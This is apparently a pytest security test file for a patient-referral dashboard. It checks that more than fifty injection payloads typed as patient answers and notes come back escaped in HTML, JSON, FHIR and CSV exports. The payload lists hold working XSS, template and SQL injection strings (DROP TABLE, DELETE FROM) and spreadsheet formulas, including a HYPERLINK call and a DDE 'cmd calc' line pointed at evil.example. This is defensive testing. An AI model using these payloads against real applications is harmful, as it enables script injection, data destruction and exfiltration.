"""Hostile text typed by patients (and odd account names) comes back escaped in every dashboard
view, never as markup, script, template or SQL (issue 11: "50+ injection payloads typed as
answers and rendered in every dashboard view, CSV formula injection with full-width
characters").

Each payload is stored through the repository, as the chat's actions store it, as a patient's
name, contact time, e-mail, answers, main reason and transcript, and as a coordinator's note, an
audit actor, detail and source address, and a funnel criterion. A page full of payloads must have
exactly the elements and attributes of the same page full of harmless text, no event handler, no
script URL, and show each payload as text."""

import csv
import io
import itertools
import json
from html.parser import HTMLParser

import pytest

from bot.dashboard.export import FORMULA_STARTS
from bot.store import repository
from tests.bot.dashboard.dashboard_helpers import (
    START,
    Clock,
    dashboard_app,
    sign_in,
)
from tests.support.referrals import make_referral, screened

XSS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "<a href=//evil.example>link</a>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</q></td></tr></table><script>alert(1)</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<object data="data:text/html,<script>alert(1)</script>">',
    "<embed src=javascript:alert(1)>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=password></form>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<video><source onerror="alert(1)">',
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>hi</marquee>",
    "<!--",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]
TEMPLATE = [
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(3) %}x{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s {0} {}",
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE referral; --",
    '" OR 1=1 --',
    "1; SELECT * FROM coordinator",
    "\\'; DELETE FROM audit_event; --",
]
UNICODE = [
    "\u202eexe.txt\u202c",  # right-to-left override
    "evil\u2066\u2067\u2068\u2069\u200f",
    "a\u200bb\u200dc\ufeffd",  # zero-width
    "👩🏽‍⚕️💊🧪 我有狼疮<script>",
    "Z̸̢̛a̶̛͝l̷g̸o̵ text",
    "\x1b[31mred\x1b[0m \x07",
    "line one\r\nSet-Cookie: planted=1",
    "ＡＢＣ＜script＞alert(1)＜/script＞",
]
HUGE = [
    "A" * 100_000,
    "<b>" * 5_000 + "<script>alert(1)</script>",
    "我" * 30_000,
]
PAYLOADS = XSS + TEMPLATE + SQL + UNICODE + HUGE
BENIGN = "harmless text"
# Tags and attributes a page may only have as the templates write them.
DANGEROUS_URL = ("javascript:", "data:", "vbscript:")


def test_there_are_at_least_fifty_payloads():
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS)) == len(PAYLOADS)


class Page(HTMLParser):
    """A page's elements (tag, attribute names), URL attributes and text."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.elements, self.urls, self.handlers, self.texts = [], [], [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, tuple(sorted(name for name, _ in attrs))))
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if name in ("href", "src", "action", "formaction", "xlink:href", "data"):
                self.urls.append(value or "")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.texts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)


def _shrink(text: str, limit: int) -> str:
    return text[:limit]


def fill(store, texts):
    """One referral per text, with that text in every patient-typed field; the same text as a
    note, an audit actor, detail and source address; the first five as funnel criteria."""
    ids = []
    for n, text in enumerate(texts):
        referral_id = make_referral(
            store,
            f"conv-{n}",
            name=_shrink(text, 200),
            phone=_shrink(text, 40),
            email=_shrink(text, 320),
            preferred_time=_shrink(text, 200),
            words=text,
            reason=text,
            main_reason=text,
            transcript_text=text,
            outcome="needs_review",
        )
        with store() as session:
            repository.add_note(
                session=session, referral_id=referral_id, text=text, actor="amy", at=START
            )
            repository.record_audit(
                session=session,
                actor=_shrink(text, 80),
                action="note_added",
                referral_id=referral_id,
                at=START,
                detail=_shrink(text, 200),
                source_address=_shrink(text, 64),
            )
        ids.append(referral_id)
    for n, text in enumerate(texts[:5]):  # funnel: top not-eligible criteria
        for copy in range(5 - n):
            conversation = f"ne-{n}-{copy}"
            with store() as session:
                screened(
                    session,
                    conversation,
                    at=START,
                    outcome="not_eligible",
                    main_reason=text,
                    verdicts=[
                        {
                            "criterion": _shrink(text, 80),
                            "item": "E1",
                            "kind": "self_reported",
                            "verdict": "not_met",
                            "reason": text,
                            "words": text,
                            "parsed": None,
                            "until": None,
                        }
                    ],
                )
    return ids


@pytest.fixture(scope="module")
def dashboards(tmp_path_factory):
    """Two signed-in dashboards: one full of payloads, one with harmless text in their place."""
    made = {}
    with (
        dashboard_app(tmp_path_factory.mktemp("payloads"), Clock()) as hostile,
        dashboard_app(tmp_path_factory.mktemp("benign"), Clock()) as benign,
    ):
        for name, app, texts in (
            ("hostile", hostile, PAYLOADS),
            ("benign", benign, [f"{BENIGN} {n}" for n in range(len(PAYLOADS))]),
        ):
            from bot.store.db import session_scope

            def store(app=app):
                return session_scope(app.extensions["hn2301_engine"])

            ids = fill(store, texts)
            client = app.test_client()
            assert sign_in(client).status_code == 302
            made[name] = (client, ids)
        yield made


def get(client, path):
    response = client.get(path)
    assert response.status_code == 200, path
    assert "default-src 'none'" in response.headers["Content-Security-Policy"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    return response


def assert_inert(hostile_html: str, benign_html: str, where: str) -> Page:
    hostile, benign = Page(hostile_html), Page(benign_html)
    assert hostile.handlers == [], where
    for url in hostile.urls:
        cleaned = "".join(ch for ch in url if ch.isprintable() and not ch.isspace()).lower()
        assert not cleaned.startswith(DANGEROUS_URL), (where, url)
    assert hostile.elements == benign.elements, f"{where}: the payloads added or removed markup"
    return hostile


@pytest.mark.parametrize("path", ["/", "/?status=new", "/audit", "/funnel"])
def test_list_pages_show_every_payload_as_text(dashboards, path):
    hostile_client, _ = dashboards["hostile"]
    benign_client, _ = dashboards["benign"]
    hostile_html = get(hostile_client, path).get_data(as_text=True)
    page = assert_inert(hostile_html, get(benign_client, path).get_data(as_text=True), path)
    if path in ("/", "/?status=new"):
        for payload in PAYLOADS:
            assert _shrink(payload, 200) in page.text, (path, payload[:40])
    if path == "/audit":
        for payload in PAYLOADS:
            assert _shrink(payload, 80) in page.text, (path, payload[:40])


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_the_referral_page_shows_the_payload_as_text_everywhere(dashboards, index):
    hostile_client, hostile_ids = dashboards["hostile"]
    benign_client, benign_ids = dashboards["benign"]
    payload = PAYLOADS[index]
    for template in ("/referrals/{}", "/audit?referral={}"):
        hostile_html = get(hostile_client, template.format(hostile_ids[index]))
        benign_html = get(benign_client, template.format(benign_ids[index]))
        page = assert_inert(
            hostile_html.get_data(as_text=True), benign_html.get_data(as_text=True), template
        )
        if template.startswith("/referrals"):
            # name, contact time, words, transcript, note: each shown whole, as text
            assert page.text.count(payload) >= 3, payload[:40]
            assert _shrink(payload, 200) in page.text


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_json_and_fhir_exports_carry_the_payload_as_data(dashboards, index):
    client, ids = dashboards["hostile"]
    payload = PAYLOADS[index]
    api = get(client, f"/api/referrals/{ids[index]}")
    assert api.mimetype == "application/json"
    body = api.get_json()
    assert body["name"] == _shrink(payload, 200)
    assert body["answers"][0]["words"] == payload
    assert body["transcript"][1]["text"] == payload
    assert body["notes"][0]["text"] == payload
    fhir = get(client, f"/referrals/{ids[index]}/fhir.json")
    assert fhir.mimetype == "application/fhir+json"
    assert "attachment" in fhir.headers["Content-Disposition"]
    assert payload in set(strings(json.loads(fhir.get_data(as_text=True))))


def strings(value):
    """Every string inside a JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def test_the_api_list_and_audit_carry_every_payload_as_data(dashboards):
    client, ids = dashboards["hostile"]
    listed = get(client, "/api/referrals").get_json()["referrals"]
    assert {item["name"] for item in listed} >= {_shrink(p, 200) for p in PAYLOADS}
    for referral_id, payload in zip(ids, PAYLOADS, strict=True):
        events = get(client, f"/api/audit?referral={referral_id}").get_json()["events"]
        assert {
            "actor": _shrink(payload, 80),
            "detail": _shrink(payload, 200),
            "source_address": _shrink(payload, 64),
        }.items() <= next(e for e in events if e["actor"] != "amy").items()
    get(client, "/api/funnel")


def test_the_store_survives_the_sql_payloads(dashboards):
    client, _ = dashboards["hostile"]
    assert len(get(client, "/api/referrals").get_json()["referrals"]) == len(PAYLOADS)
    assert get(client, "/api/audit").get_json()["events"]


# --- CSV formula injection ---------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u3000=1+1",
    "＝1+1",  # full-width equals
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "﹦1+1",  # small equals
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    ' ＝HYPERLINK("https://evil.example")',
    "=2+5+cmd|' /C calc'!A0",
]
CSV_FIELDS = ("name", "phone", "email", "preferred_time", "main_reason")


def test_the_csv_export_neutralises_every_formula_in_every_patient_field(tmp_path):
    with dashboard_app(tmp_path, Clock()) as app:
        from bot.store.db import session_scope

        def store():
            return session_scope(app.extensions["hn2301_engine"])

        counter = itertools.count()
        for formula in FORMULAS:
            make_referral(
                store,
                f"csv-{next(counter)}",
                **{field: formula for field in CSV_FIELDS},
                to_verify=[formula],
                outcome="needs_review",
            )
        client = app.test_client()
        assert sign_in(client).status_code == 302
        response = client.get("/export/referrals.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert len(rows) == len(FORMULAS)
    seen = set()
    for row in rows:
        for field in (*CSV_FIELDS, "to_verify"):
            cell = row[field]
            assert cell.startswith("'"), (field, cell)  # shown as text by every spreadsheet
            assert cell.lstrip(" \u3000")[:1] not in FORMULA_STARTS
            seen.add(cell[1:])
    assert seen == set(FORMULAS)


def test_harmless_cells_are_left_alone(tmp_path):
    from bot.dashboard.export import spreadsheet_safe

    for text in ("Li Wei", "mornings", "a=b", "1+1", "李伟", "", "email@example.org"):
        assert spreadsheet_safe(text) == text
    assert spreadsheet_safe(None) == ""
